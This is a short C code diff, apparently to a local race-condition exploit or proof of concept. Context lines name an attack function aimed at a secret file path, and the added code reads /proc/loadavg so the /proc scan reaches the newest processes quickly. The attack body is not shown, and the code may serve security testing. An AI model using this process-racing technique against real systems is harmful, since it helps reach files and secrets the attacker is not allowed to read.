@@ -255,6 +255,23 @@ static void attack(pid_t pid, const char *secret_path, const struct stat *secret
     }
 }
 
+/* The newest process of the host. */
+static pid_t last_pid(void)
+{
+    char text[128];
+    const char *blank = read_path("/proc/loadavg", text, sizeof(text)) > 0 ? strrchr(text, ' ') : NULL;
+
+    return blank ? (pid_t)strtol(blank + 1, NULL, 10) : 0;
+}
+
+/* The one to look at next: others make processes as well, and who looks at all of them comes too late for the newest. */
+static pid_t next_pid(pid_t last)
+{
+    pid_t newest = last_pid();
+
+    return newest - 12 > last ? newest - 12 : last + 1;
+}
+
 static int trace(int argc, char **argv)
 {
     time_t end = time(NULL) + (argc > 1 ? strtol(argv[1], NULL, 10) : 5);
@@ -267,7 +284,7 @@ static int trace(int argc, char **argv)
     (void)printf("ready\n");
     (void)fflush(stdout);
     for (pid_t last = getpid(); time(NULL) < end && access(argv[3], F_OK) != 0;)
-        for (pid_t pid = last + 1; pid <= last + 8; pid++) {
+        for (pid_t pid = next_pid(last); pid <= last_pid(); pid++) {
             (void)snprintf(path, sizeof(path), "/proc/%d", (int)pid);
             if (stat(path, &s) != 0)
                 continue;
